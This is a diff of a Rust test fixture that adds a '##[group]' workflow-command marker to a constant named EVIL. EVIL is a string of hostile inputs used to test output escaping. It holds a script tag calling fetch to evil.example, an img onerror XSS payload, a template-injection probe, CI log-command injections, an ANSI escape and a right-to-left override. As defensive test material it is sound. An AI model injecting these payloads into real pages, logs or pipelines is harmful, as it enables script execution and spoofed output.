@@ -318,7 +318,7 @@ pub fn aborted() -> Facts {
 }
 
 /// Text that tries everything.
-pub const EVIL: &str = "<script>fetch('http://evil.example/x')</script><img src=http://evil.example/p.png onerror=alert(1)>\"'`{{7*7}} ]]> &amp; | @everyone #1 ::error::x\u{1b}[2J\u{202e}\r\n::warning file=x::y\n# h";
+pub const EVIL: &str = "<script>fetch('http://evil.example/x')</script><img src=http://evil.example/p.png onerror=alert(1)>\"'`{{7*7}} ]]> &amp; | @everyone #1 ::error::x\u{1b}[2J\u{202e}\r\n::warning file=x::y\n##[group]g\n# h";
 
 /// Every piece of text is hostile.
 pub fn hostile() -> Facts {
